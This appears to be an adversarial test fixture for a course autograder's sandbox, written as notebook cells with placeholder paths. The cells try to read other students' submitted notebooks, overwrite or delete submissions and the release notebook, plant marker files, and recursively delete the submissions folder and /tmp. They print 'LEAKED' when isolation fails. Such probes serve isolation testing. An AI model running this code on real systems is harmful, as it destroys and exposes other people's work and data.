# tries: to read and to spoil the work of other students, and the course itself
# %% last
import glob
import os

print(open("spiral.ipynb").read() if os.path.exists("spiral.ipynb") else "no notebook here")
for root in ("@COURSE@", "@HOME@", "../../..", "/tmp", "/work", "/home", "/proc/@PID@/cwd", "/proc/1/cwd"):
    for pattern in ("submitted", "autograded", "feedback", "*/spiral/*.ipynb", "submitted/*/spiral/spiral.ipynb"):
        for path in glob.glob(os.path.join(root, pattern)):
            print("LEAK" "ED:", path)
            if os.path.isfile(path):
                print(open(path).read())
# %% last
import os
import shutil

for path in ("@COURSE@/submitted/zzz_after/spiral/spiral.ipynb", "@COURSE@/release/spiral/spiral.ipynb"):
    for spoil in (lambda p: open(p, "w").write("{}"), os.unlink, os.truncate, lambda p: os.rename(p, p + "x")):
        try:
            spoil(path)
            print("LEAK" "ED: spoilt", path)
        except Exception as error:
            print(type(error).__name__)
for folder in ("@COURSE@", "@COURSE@/tmp", "@HOME@", "@HOME@/autograder", "@USERHOME@", "/tmp", "/var/tmp", "/"):
    try:
        open(os.path.join(folder, "attack-was-here"), "w").close()
    except OSError as error:
        print(error)
shutil.rmtree("@COURSE@/submitted", ignore_errors=True)
shutil.rmtree("/tmp", ignore_errors=True)
# %% last
import os

for folder in ("..", "../..", "@COURSE@/tmp", "/tmp", "/dev/shm", "/run", "/var/tmp"):
    try:
        names = [name for name in os.listdir(folder) if os.path.join(os.path.abspath(folder), name) != os.getcwd()]
        inside = {name: os.listdir(os.path.join(folder, name)) for name in names if name.startswith(("course-", "sub"))}
        others = {*sum(inside.values(), [])} - {os.path.basename(os.getcwd())}
        print("LEAK" "ED:" if others else "empty", folder, inside)
    except OSError as error:
        print(error)
